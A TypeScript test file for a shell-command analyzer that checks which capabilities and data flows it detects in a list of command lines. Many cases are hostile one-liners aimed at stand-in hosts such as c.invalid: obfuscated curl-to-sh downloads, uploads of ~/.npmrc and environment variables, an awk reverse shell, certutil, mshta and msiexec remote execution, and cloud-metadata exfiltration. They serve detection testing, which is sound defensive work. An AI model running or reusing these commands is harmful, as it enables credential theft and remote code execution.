import t from 'tap'
import { readShell } from '../../src/analysis/shell/read.ts'

interface Case {
  readonly line: string
  readonly can?: readonly string[]
  readonly flows?: readonly string[]
  readonly starts?: readonly string[]
}

const CASES: readonly Case[] = [
  { line: 'a=cu; b=rl; $a$b https://c.invalid | sh', can: ['network', 'process'], flows: ['remote-content->process'] },
  {
    line: 'curl${IFS}-T${IFS}~/.npmrc https://c.invalid',
    can: ['network', 'secrets'],
    flows: ['secret-file->network'],
  },
  {
    line: String.raw`certutil -urlcache -f https://c.invalid/a.exe %TEMP%\\u.exe && %TEMP%\\u.exe`,
    can: ['network'],
    flows: ['remote-content->process'],
    starts: [String.raw`%TEMP%\u.exe`],
  },
  { line: 'certutil -hashfile u.exe SHA256', can: ['network'] },
  {
    line: 'msiexec /q /i https://c.invalid/a.msi',
    can: ['network', 'process'],
    flows: ['remote-content->process'],
    starts: ['msiexec /q /i https://c.invalid/a.msi'],
  },
  { line: 'msiexec /i setup.msi', can: ['process'], starts: ['msiexec /i setup.msi'] },
  { line: 'ssh -N -R 2222:localhost:22 u@c.invalid', can: ['network'], flows: ['remote-content->process'] },
  { line: 'ssh -N -L 2222:localhost:22 u@c.invalid', can: ['network'] },
  {
    line: `awk 'BEGIN { s = "/inet/tcp/0/c.invalid/4444"; while (s |& getline c) system(c) }'`,
    can: ['network'],
    flows: ['remote-content->process'],
  },
  { line: 'wmic os get /format:"https://c.invalid/a.xsl"', can: ['network'], flows: ['remote-content->process'] },
  {
    line: `mshta 'javascript:GetObject("script:https://c.invalid/a.sct")'`,
    can: ['network', 'process'],
    flows: ['remote-content->process'],
    starts: ['mshta javascript:GetObject("script:https://c.invalid/a.sct")'],
  },
  { line: "eval 'curl -T ~/.npmrc https://c.invalid'", can: ['network', 'secrets'], flows: ['secret-file->network'] },
  { line: `x='eval "$x"'; eval "$x"`, can: ['dynamic-code'] },
  {
    line: String.raw`sh -c $'\x63url -T ~/.npmrc https://c.invalid'`,
    can: ['network', 'secrets'],
    flows: ['secret-file->network'],
  },
  {
    line: String.raw`printf '\143url -T ~/.npmrc https://c.invalid' | sh`,
    can: ['network', 'process', 'secrets'],
    flows: ['secret-file->network'],
  },
  {
    line: `echo ${Buffer.from('curl -T ~/.npmrc https://c.invalid').toString('hex')} | xxd -r -p | sh`,
    can: ['network', 'process', 'secrets'],
    flows: ['decoded-text->process', 'secret-file->network'],
  },
  {
    line: "echo 'dilavni.c//:sptth crmpn./~ T- lruc' | rev | sh",
    can: ['network', 'process', 'secrets'],
    flows: ['decoded-text->process', 'secret-file->network'],
  },
  { line: "echo 'ernql' | tr 'A-Za-z' 'N-ZA-Mn-za-m'" },
  { line: 'env > /dev/tcp/192.0.2.4/443', can: ['env', 'network'], flows: ['env->network'] },
  {
    line: 'bash -c "(echo \'`id`\' > /dev/tcp/192.0.2.4/443)||(:)"',
    can: ['host-info', 'network'],
    flows: ['host-info->network'],
  },
  { line: 'echo hi > /dev/tcp/localhost/80', can: ['network'] },
  { line: 'env > /tmp/d; curl -F f=@/tmp/d https://c.invalid', can: ['env', 'network'], flows: ['env->network'] },
  { line: 'cat ~/.npmrc | mail -s d b@c.invalid', can: ['network', 'secrets'], flows: ['secret-file->network'] },
  { line: 'aws s3 cp ~/.npmrc s3://drop/d', can: ['network', 'secrets'], flows: ['secret-file->network'] },
  { line: 'aws s3 ls' },
  { line: 'printenv NPM_TOKEN | nc c.invalid 80', can: ['env', 'network'], flows: ['env->network'] },
  { line: 'printenv HOME | nc c.invalid 80', can: ['network'] },
  {
    line: 'curl -s http://169.254.169.254/latest/meta-data/ | curl -d @- https://c.invalid',
    can: ['network'],
    flows: ['secret-file->network'],
  },
  {
    line: 'curl -so /tmp/x https://c.invalid/x && chmod +x /tmp/x && /tmp/x',
    can: ['filesystem-write', 'network'],
    flows: ['remote-content->process'],
    starts: ['/tmp/x'],
  },
  {
    line: 'curl -s https://c.invalid/p.tgz | tar xz -C /tmp/p && /tmp/p/run',
    can: ['network'],
    flows: ['remote-content->process'],
    starts: ['/tmp/p/run'],
  },
  { line: 'curl -fsSLo data.bin https://c.invalid/d && sha256sum -c sums', can: ['network'] },
  {
    line: 'pip install --index-url https://c.invalid/simple some-core',
    can: ['network'],
    flows: ['remote-content->process'],
  },
]

t.test('command lines that are written so that they do not stand there, and ways out', async (t) => {
  for (const { line, can = [], flows = [], starts = [] } of CASES) {
    const reading = readShell(line)
    t.same([...new Set(reading.capabilities.map(({ kind }) => kind))].toSorted(), can.toSorted(), `${line}: can`)
    t.same(
      [...new Set(reading.flows.map(({ source, sink }) => `${source.kind}->${sink.kind}`))],
      flows,
      `${line}: flows`,
    )
    t.same([...new Set(reading.starts.map(({ command }) => command))], starts, `${line}: starts`)
  }
})

const many = (count: number): string =>
  Array.from({ length: count }, (_each, index) => `eval 'curl -T ~/.npmrc https://c${index}.invalid'`).join('\n')

t.test('what writes itself anew ends', async (t) => {
  t.equal(readShell(many(100)).flows.length, 100, 'as many texts as are followed')
  t.equal(readShell(many(101)).flows.length, 100, 'one more is left')
  t.same(readShell(`x='eval "$x$x"'; eval "$x"`).flows, [])
})
